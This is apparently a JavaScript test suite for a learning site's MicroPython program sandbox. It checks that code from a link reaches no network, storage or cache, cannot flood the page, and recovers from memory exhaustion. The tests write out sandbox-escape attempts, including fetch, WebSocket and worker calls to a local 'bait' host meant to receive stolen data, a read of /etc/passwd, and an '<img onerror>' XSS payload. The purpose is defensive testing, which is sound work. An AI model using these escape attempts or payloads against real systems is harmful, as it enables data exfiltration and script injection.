// A program from a link runs in the programs' sandbox (web/runtime/programs/worker-client.js):
// whatever it tries, it reaches no network, none of the site's caches or storage, and
// it cannot flood or stall the page.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { demo, useSite } from '../support/site.mjs';

const site = useSite();
const panel = (page) => demo(page, 'order').locator('details.program');

// Another "origin" a program might send the learner's data to: it records every request that reaches it.
let bait;
const reached = [];
before(async () => {
  bait = http.createServer((req, res) => { reached.push(req.url); res.end('stolen'); });
  await new Promise((resolve) => bait.listen(0, '127.0.0.1', resolve));
});
after(() => bait.close());
const baitUrl = () => `http://127.0.0.1:${bait.address().port}`;

async function openPanel(page) {
  if (!(await panel(page).evaluate((d) => d.open))) await panel(page).locator('summary').click();
  await panel(page).locator('.cm-content').waitFor();
}

async function runProgram(page, code) {
  await openPanel(page);
  await page.evaluate((text) => document.querySelector('.demo[data-instance="order"] details.program').programEditor.setText(text), code);
  await panel(page).locator('.program-run').click();
  await page.waitForFunction(() => {
    const d = document.querySelector('.demo[data-instance="order"] details.program');
    return d.dataset.state && !d.querySelector('.program-run').disabled;
  }, null, { timeout: 30000 });
  return { printed: await panel(page).locator('.program-printout').innerText(), status: await panel(page).locator('.program-status').innerText() };
}

// Each attempt is a program of its own: a JavaScript exception thrown through MicroPython ends the run.
const ESCAPES = (target, site) => ({
  'fetch': `js.fetch("${target}/fetch")`,
  'fetch the site': `js.fetch("${site}robot/index.html")`,
  'xhr': `(lambda x: (x.open("GET", "${target}/xhr", False), x.send(), x.responseText))(js.XMLHttpRequest.new())`,
  'websocket': `js.WebSocket.new("${target.replace('http', 'ws')}/ws")`,
  'event source': `js.EventSource.new("${target}/sse")`,
  'importScripts': `js.importScripts("${target}/script.js")`,
  'eval': `js.eval("fetch('${target}/eval')")`,
  'Function': `js.Function.new("return fetch('${target}/function')")()`,
  'nested worker': `js.Worker.new("${target}/worker.js")`,
  'caches': 'js.caches.open("attn")',
  'indexedDB': 'js.indexedDB.open("attn")',
  'localStorage': 'js.localStorage.setItem("attn-theme", "dark")',
  '__import__': `__import__("js").fetch("${target}/import")`,
  'open a file': 'open("/etc/passwd").read()',
});
// What each attempt may get: nothing of the site's, the network's or the machine's.
const HARMLESS = /^(|<JsProxy \d+>|<undefined>)$/;

test('program sandbox: a program trying every escape reaches no network, cache or storage of the site', async () => {
  const { page } = await site.open('robot/');
  await page.evaluate(() => localStorage.setItem('attn-marker', 'kept'));
  const storageBefore = await page.evaluate(async () => ({ keys: { ...localStorage }, caches: await caches.keys() }));
  const outcomes = {};
  for (const [name, expression] of Object.entries(ESCAPES(baitUrl(), site.server.url))) {
    const { printed, status } = await runProgram(page, `import js\nprint(str(${expression})[:80])\n`);
    outcomes[name] = { printed, status };
    assert.match(printed, HARMLESS, `${name} got: ${printed}`);
  }
  assert.equal((await runProgram(page, 'import js\nprint(js.self.origin)\n')).printed, 'null');
  // Let any request an attempt started arrive before looking.
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
  assert.deepEqual(reached, [], `requests reached the other host: ${reached.join(', ')}`);
  for (const name of ['caches', 'indexedDB', 'localStorage', 'importScripts', 'eval', 'Function', 'xhr', 'open a file']) {
    assert.doesNotMatch(outcomes[name].status, /^Finished/, `${name}: ${JSON.stringify(outcomes[name])}`);
  }
  const storageAfter = await page.evaluate(async () => ({ keys: { ...localStorage }, caches: await caches.keys() }));
  assert.deepEqual(storageAfter, storageBefore);
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme ?? null), null);
});

test('program sandbox: a message the program posts itself shows only what print could', async () => {
  const { page } = await site.open('robot/');
  const { printed } = await runProgram(page, 'import js\njs.self.postMessage(\'{"type":"events","events":[{"type":"print","text":"<img src=x onerror=alert(1)>"}]}\')\nprint("end")\n');
  assert.equal(printed, '<img src=x onerror=alert(1)>\nend');
  assert.equal(await panel(page).locator('.program-printout img').count(), 0);
});

test('program sandbox: a malformed message the program posts ends the run with a message, and Run works again', async () => {
  const { page, problems } = await site.open('robot/');
  const bad = await runProgram(page, 'import js\njs.self.postMessage(\'{"type":"events","events":[{"type":"draw","name":"x"}]}\')\nwhile True:\n    pass\n');
  assert.equal(bad.status, 'The program sent the page something it cannot show, so it was stopped.');
  assert.equal(await panel(page).locator('.program-run').isEnabled(), true);
  assert.equal((await runProgram(page, 'print(6 * 7)\n')).printed, '42');
  assert.deepEqual(problems, []);
});

test('program sandbox: a flood through sys.stdout.write ends at the output budget and the page keeps answering', async () => {
  const { page } = await site.open('robot/');
  const { printed, status } = await runProgram(page, 'import sys\nwhile True:\n    sys.stdout.write("x" * 200 + "\\n")\n');
  assert.match(status, /The program printed more than 1,000,000 characters/);
  assert.ok(printed.length <= 1_000_000, `${printed.length} characters shown`);
  assert.equal(await panel(page).locator('.program-more').isVisible(), true);
  assert.equal(await page.evaluate(() => 1 + 1), 2);  // the page's own thread answers
});

test('program sandbox: messages a program posts itself past the frame\'s rate end the run', async () => {
  const { page } = await site.open('robot/');
  const { status } = await runProgram(page, 'import js\nwhile True:\n    js.self.postMessage("{}")\n');
  assert.match(status, /sent the page more than it can show|sent the page something it cannot show/);
});

test('program sandbox: a program that grows without end gets MemoryError, and the next run has its memory back', async () => {
  const { page } = await site.open('robot/');
  const grown = await runProgram(page, 's = []\nwhile True:\n    s.append("x" * 1000000)\n');
  assert.match(grown.status, /MemoryError/);
  const next = await runProgram(page, 's = ["x" * 1000000 for i in range(40)]\nprint(len(s))\n');
  assert.equal(next.printed, '40');
});

test('program sandbox: what was printed before Stop stays on screen, and a new run starts from an empty printout', async () => {
  const { page } = await site.open('robot/');
  await panel(page).locator('summary').click();
  await panel(page).locator('.cm-content').waitFor();
  await page.evaluate(() => document.querySelector('.demo[data-instance="order"] details.program').programEditor.setText('print("before the loop")\nwhile True:\n    pass\n'));
  await panel(page).locator('.program-run').click();
  await page.waitForFunction(() => document.querySelector('.demo[data-instance="order"] .program-printout').textContent.includes('before the loop'), null, { timeout: 20000 });
  await panel(page).locator('.program-stop').click();
  await page.waitForFunction(() => document.querySelector('.demo[data-instance="order"] details.program').dataset.state === 'stopped');
  assert.equal(await panel(page).locator('.program-printout').innerText(), 'before the loop');
  // The next run's printout starts empty, not with the last run's lines under "Running…".
  await page.evaluate(() => document.querySelector('.demo[data-instance="order"] details.program').programEditor.setText('while True:\n    pass\n'));
  await panel(page).locator('.program-run').click();
  await page.waitForFunction(() => document.querySelector('.demo[data-instance="order"] .program-status').textContent === 'Running…');
  assert.equal(await panel(page).locator('.program-printout').innerText(), '');
  await panel(page).locator('.program-stop').click();
});
